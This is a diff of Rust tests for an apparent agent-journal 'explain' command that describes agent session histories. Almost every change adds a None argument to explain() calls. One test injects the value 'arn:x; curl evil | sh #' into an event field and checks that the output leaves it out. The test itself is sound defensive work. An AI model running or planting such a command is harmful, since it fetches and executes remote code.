@@ -33,7 +33,7 @@ fn rendered(events: &[Event]) -> String {
     let run = newest(&runs).unwrap();
     let mut lines: Vec<_> = run.entries.iter().map(timeline::line).collect();
     lines.push(String::new());
-    lines.push(explain(&runs, later(events)));
+    lines.push(explain(&runs, later(events), None));
     anstream::adapter::strip_str(&lines.join("\n")).to_string()
 }
 
@@ -83,12 +83,12 @@ fn the_documents_examples_are_what_the_command_says() {
         String::from("| journal | exit code | `agent-journal explain` begins |\n|---|---|---|\n");
     for (name, code) in EXIT_CODES {
         let events = history(name);
-        let explanation = explain(&runs(&events), later(&events));
+        let explanation = explain(&runs(&events), later(&events), None);
         let first = explanation.lines().next().unwrap();
         table += &format!("| `{name}` | {code} | {first} |\n");
     }
     let killed = history("container-killed");
-    let killed = explain(&runs(&killed), later(&killed));
+    let killed = explain(&runs(&killed), later(&killed), None);
     let failed = rendered(&history("agent-failed"));
     let (failed, _) = failed.split_once("\n\nThe session").unwrap();
     for example in [&*table, &*killed, failed] {
@@ -117,7 +117,7 @@ fn broken(base: &str, change: impl FnOnce(&mut Vec<Event>)) -> (u8, String) {
     let runs = runs(&events);
     let run = newest(&runs).unwrap();
     assert_eq!(
-        explain(&runs, later(&events)).matches("The history is broken").count(),
+        explain(&runs, later(&events), None).matches("The history is broken").count(),
         run.defects.len()
     );
     (run.exit_code(later(&events)), run.defects.join("; "))
@@ -154,7 +154,7 @@ fn what_comes_late_or_from_elsewhere_is_explained_too() {
     end.timestamp = "2026-12-31T23:59:59.000000Z".to_owned();
     end.sort_key = format!("EVENT#{}", end.timestamp);
     late.push(end);
-    let said = explain(&runs(&late), later(&late));
+    let said = explain(&runs(&late), later(&late), None);
     assert!(
         said.contains("gave up waiting for the agent's end. The agent's own end came later."),
         "{said}"
@@ -173,13 +173,13 @@ fn what_comes_late_or_from_elsewhere_is_explained_too() {
     };
     signed[0].signs = Some(vec![sign(SignKind::Challenge, 1), sign(SignKind::Beat, 12)]);
     let alive = "sign of life 12.000 s ago; the agent has said nothing for 41 min 0 s";
-    let said = explain(&signed, later(&events));
+    let said = explain(&signed, later(&events), None);
     assert!(
         said.starts_with(&format!("The session has not ended. Its task: {alive}.\n")),
         "{said}"
     );
     signed[0].signs = Some(Vec::new());
-    let said = explain(&signed, later(&events));
+    let said = explain(&signed, later(&events), None);
     assert!(said.contains("no sign of life since its start 1 min"), "{said}");
     let dead = "(due every 20 s: its container is probably dead); no progress yet";
     assert!(said.contains(dead), "{said}");
@@ -187,11 +187,11 @@ fn what_comes_late_or_from_elsewhere_is_explained_too() {
     for event in &mut hostile {
         event.invocation_id = "arn:x; curl evil | sh #".to_owned();
     }
-    let said = explain(&runs(&hostile), later(&hostile));
+    let said = explain(&runs(&hostile), later(&hostile), None);
     assert!(!said.contains("curl"), "{said}");
     let mut elsewhere = history("running");
     elsewhere.retain(|event| event.source != "agent");
-    let said = explain(&runs(&elsewhere), later(&elsewhere));
+    let said = explain(&runs(&elsewhere), later(&elsewhere), None);
     assert!(said.contains("another program answered"), "{said}");
     let mut refused = history("running");
     let mut refusal = history("entrypoint-failed").remove(3);
@@ -200,7 +200,7 @@ fn what_comes_late_or_from_elsewhere_is_explained_too() {
     refusal.timestamp = "2026-12-31T23:59:59.000000Z".to_owned();
     refusal.sort_key = format!("EVENT#{}", refusal.timestamp);
     refused.push(refusal);
-    let said = explain(&runs(&refused), later(&refused));
+    let said = explain(&runs(&refused), later(&refused), None);
     assert!(said.contains("The container refused a request of this run: JournalError"), "{said}");
     // A task that was not started, once with its start in the journal and once without.
     for with_start in [true, false] {
@@ -218,13 +218,13 @@ fn what_comes_late_or_from_elsewhere_is_explained_too() {
         events.push(end);
         let runs = runs(&events);
         assert_eq!(newest(&runs).unwrap().exit_code(later(&events)), 1);
-        let said = explain(&runs, later(&events));
+        let said = explain(&runs, later(&events), None);
         assert!(said.contains("could not journal the agent's start, and did not"), "{said}");
         assert!(said.contains("It stopped at: the container's entrypoint"), "{said}");
     }
     let mut nothing = history("running");
     nothing.truncate(1);
-    let said = explain(&runs(&nothing), later(&nothing));
+    let said = explain(&runs(&nothing), later(&nothing), None);
     assert!(said.contains("the invoker has journaled nothing"), "{said}");
     assert!(said.contains("It is at: the invoker"), "{said}");
 }
@@ -279,7 +279,7 @@ fn of_a_session_that_has_expired_nothing_is_broken_and_nothing_runs() {
             event.expires_at = Some(last.as_micros() / 1_000_000 + 1);
         }
         let (runs, now) = (runs(&events), later(&events));
-        (newest(&runs).unwrap().exit_code(now), explain(&runs, now))
+        (newest(&runs).unwrap().exit_code(now), explain(&runs, now, None))
     };
     // Its start is gone.
     let (code, said) =
